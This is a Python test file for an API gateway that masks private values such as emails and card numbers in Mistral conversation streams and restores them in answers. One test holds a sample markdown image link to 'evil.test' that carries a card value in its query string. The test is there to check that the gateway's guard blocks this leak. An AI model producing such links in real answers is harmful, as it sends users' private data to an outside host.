"""Streams and turns of Mistral's conversations; `contract` tests what the wire shares with the others."""

import json
import random
from collections.abc import AsyncIterator
from typing import Any

import pytest

from gateway.config.loading import load_settings
from gateway.container import Container
from gateway.errors import BadUpstream
from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.exchange.destination import Destination
from gateway.exchange.state import Exchange
from gateway.models import Caller, Scope, Trust
from gateway.wires.base import Body
from gateway.wires.mistral_conversations import WIRE
from tests.exchanges import protected_exchange
from tests.gateway.wires.replays import CARD, MAIL, QUOTED, chunks, plan, read_sse, replay, session, sse, written

PLACEHOLDERS, OF = session()
THOUGHT, SAID, ADDED = f"They are {QUOTED}.", f"Write to {MAIL}, about {CARD}; grüße", f" Or ask {QUOTED}"
QUERY = json.dumps({"query": MAIL})
ARGUMENTS = json.dumps({"to": {"deep": [MAIL, 1]}, "note": QUOTED}, ensure_ascii=False)
USAGE = {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}
STARTED = {"type": "conversation.response.started", "conversation_id": "conv_1"}
DONE = {"type": "conversation.response.done", "usage": USAGE}


def pieces(text: str, size: int) -> list[str]:
    return [*chunks(written(text, OF), random.Random(size), size)]


def message(content: Any, output: int = 1, part: int = 0) -> Body:
    at = {"output_index": output, "content_index": part}
    return {"type": "message.output.delta", "id": "m1", **at, "content": content, "role": "assistant"}


def execution(kind: str, **members: Any) -> Body:
    return {"type": f"tool.execution.{kind}", "id": "t1", "name": "web_search", "output_index": 0, **members}


def answer(size: int) -> bytes:
    """A search, thoughts, a text as a string and in parts, a reference, and a call of a tool."""
    call = {"type": "function.call.delta", "id": "f1", "name": "send", "tool_call_id": "c1", "output_index": 2}
    events = [
        STARTED,
        execution("started", arguments=""),
        *(execution("delta", arguments=piece) for piece in pieces(QUERY, size)),
        execution("done", info={"found": written(MAIL, OF)}),
        *(
            message({"type": "thinking", "thinking": [{"type": "text", "text": piece}]}, part=0)
            for piece in pieces(THOUGHT, size)
        ),
        *(message(piece, part=1) for piece in pieces(SAID, size)),
        message({"type": "tool_reference", "tool": "web_search", "title": written(QUOTED, OF)}, part=2),
        *(message({"type": "text", "text": piece}, part=3) for piece in pieces(ADDED, size)),
        *({**call, "arguments": piece} for piece in pieces(ARGUMENTS, size)),
        DONE,
    ]
    return sse(events, named=True)


def restored(body: bytes, **more: Any) -> list[Body]:
    return read_sse(replay(WIRE, [body], plan(PLACEHOLDERS, note={"request_id": "r"}, **more))[0])


@pytest.mark.parametrize("size", [1, 3, 7, 60])
def test_an_answer_is_restored(size: int) -> None:
    found = restored(answer(size))
    kinds = [event["type"] for event in found]
    content = [event["content"] for event in found if event["type"] == "message.output.delta"]
    thoughts = [each["thinking"] for each in content if isinstance(each, dict) and each["type"] == "thinking"]
    assert "".join(part["text"] for each in thoughts for part in each) == THOUGHT
    assert "".join(each for each in content if isinstance(each, str)) == SAID
    assert "".join(each["text"] for each in content if isinstance(each, dict) and each["type"] == "text") == ADDED
    assert [each["title"] for each in content if isinstance(each, dict) and "title" in each] == [QUOTED]
    for kind, arguments in (("tool.execution.", QUERY), ("function.call.", ARGUMENTS)):
        given = "".join(event.get("arguments", "") for event in found if event["type"].startswith(kind))
        assert json.loads(given) == json.loads(arguments)
    # The held end of a text comes before the next one.
    assert [*dict.fromkeys(kinds)] == [
        "conversation.response.started",
        "tool.execution.started",
        "tool.execution.delta",
        "tool.execution.done",
        "message.output.delta",
        "function.call.delta",
        "conversation.response.done",
    ]
    assert [event["content_index"] for event in found if "content_index" in event] == sorted(
        event["content_index"] for event in found if "content_index" in event
    )
    assert [event["svc"]["request_id"] for event in found if "svc" in event] == ["r"]
    end = replay(WIRE, [answer(size)], plan(PLACEHOLDERS))[1]
    assert (end.tokens, end.ids) == ((3, 4), ("conv_1",))


def test_a_stream_without_placeholders_keeps_its_bytes() -> None:
    source = sse([STARTED, message("Hi."), message({"type": "text", "text": "."}), DONE], named=True)
    assert replay(WIRE, [source], plan(PLACEHOLDERS))[0] == source


def test_the_arguments_of_an_execution_that_come_with_its_start() -> None:
    started = execution("started", arguments=written(f'{{"query": "{MAIL}', OF))
    found = restored(sse([STARTED, started, execution("done"), DONE], named=True))
    assert [event["type"] for event in found[1:-1]] == [
        "tool.execution.started",
        "tool.execution.delta",
        "tool.execution.done",
    ]
    assert found[2]["arguments"].endswith(MAIL)


def test_a_withheld_stream_ends_with_an_error() -> None:
    """Clients must not run the tools of an answer that is withheld."""
    text = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    source = sse([STARTED, message(text), DONE], named=True)
    found = restored(source, guard={"placeholder_in_url": "replace"})
    assert [event["type"] for event in found[-2:]] == ["message.output.delta", "conversation.response.error"]
    assert found[-2]["content"] == CONTENT_FILTERED
    assert found[-1]["svc"]["guard"]["action"] == "replace"
    whole = WIRE.stream.refusal("No.", {})
    assert next(event["type"] for event in whole if isinstance(event, dict)) == "conversation.response.started"


def test_an_error_of_the_gateway_is_an_event_of_this_api() -> None:
    error = WIRE.stream.error(BadUpstream("It broke off.", code="upstream_invalid"), "req_1")
    assert (error["type"], error["message"], error["code"]) == ("conversation.response.error", "It broke off.", 502)


@pytest.fixture(scope="module")
async def container(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Container]:
    settings = load_settings(
        None,
        data_dir=tmp_path_factory.mktemp("conversations"),
        detection="patterns",
        upstreams={
            "openai": {"base_url": "https://api.openai.test/v1", "models": ("*",)},
            "mistral": {"base_url": "https://api.mistral.test/v1", "models": ("mistral-*",)},
        },
    )
    async with await Container.start(settings) as running:
        yield running


CALLER = Caller("key_anna", Scope.CLIENT)


async def asked(container: Container, path: str, caller: Caller = CALLER, **body: Any) -> Exchange:
    return await protected_exchange(container, WIRE, body, caller, Destination("m", Trust.LOCAL), path=path)


async def test_later_turns_know_the_values_of_earlier_ones(container: Container) -> None:
    first = await asked(container, "/v1/conversations", model="mistral-large", inputs=f"I am {MAIL}.")
    placeholder = json.loads(first.body)["inputs"].removeprefix("I am ").removesuffix(".")
    said = {"conversation_id": "conv_7", "outputs": [{"type": "message.output", "content": f"Hello {placeholder}."}]}
    answered = json.loads(await container.answers.close(first, 200, json.dumps(said).encode()))
    assert answered["outputs"][0]["content"] == f"Hello {MAIL}."
    turns: list[tuple[str, dict[str, Any]]] = [
        ("/v1/conversations/conv_7", {"inputs": f"Who am I? {MAIL}?"}),
        ("/v1/conversations/conv_7/restart", {"from_entry_id": "e1", "inputs": f"Who am I? {MAIL}?"}),
        ("/v1/conversations/conv_7/history", {}),
    ]
    for path, body in turns:
        again = await asked(container, path, **body)
        assert not body or json.loads(again.body)["inputs"] == f"Who am I? {placeholder}?"
        reply = {"conversation_id": "conv_7", "entries": [{"type": "message.output", "content": placeholder}]}
        text = await container.answers.close(again, 200, json.dumps(reply).encode())
        assert json.loads(text)["entries"][0]["content"] == MAIL
    other = await asked(container, "/v1/conversations/conv_7", Caller("key_bert", Scope.CLIENT), inputs="Who am I?")
    kept = await container.answers.close(other, 200, json.dumps(reply).encode())
    assert json.loads(kept)["entries"][0]["content"] == placeholder


async def test_a_turn_goes_to_the_upstream_that_has_the_conversation(container: Container) -> None:
    def place(path: str, **body: Any) -> str:
        return container.admission.destination_for(WIRE, body, path, (), CALLER).url

    assert place("/v1/conversations", model="mistral-large", inputs="a") == "https://api.mistral.test/v1/conversations"
    first = await protected_exchange(
        container,
        WIRE,
        {"model": "mistral-large", "inputs": "Hi."},
        CALLER,
        Destination(
            "mistral-large", Trust.EXTERNAL, url="https://api.mistral.test/v1/conversations", surface="mistral"
        ),
        path="/v1/conversations",
    )
    await container.answers.close(first, 200, b'{"conversation_id": "conv_8", "outputs": []}')
    body: dict[str, Any] = {"inputs": "And?", "svc_task": "a"}
    for method, given in (("", body), ("/restart", body), ("/history", {})):
        url = place(f"/v1/conversations/conv_8{method}", **given)
        assert url == f"https://api.mistral.test/v1/conversations/conv_8{method}"
    assert body == {"inputs": "And?", "svc_task": "a"}
    assert place("/v1/conversations/conv_9", inputs="a") == "https://api.openai.test/v1/conversations/conv_9"
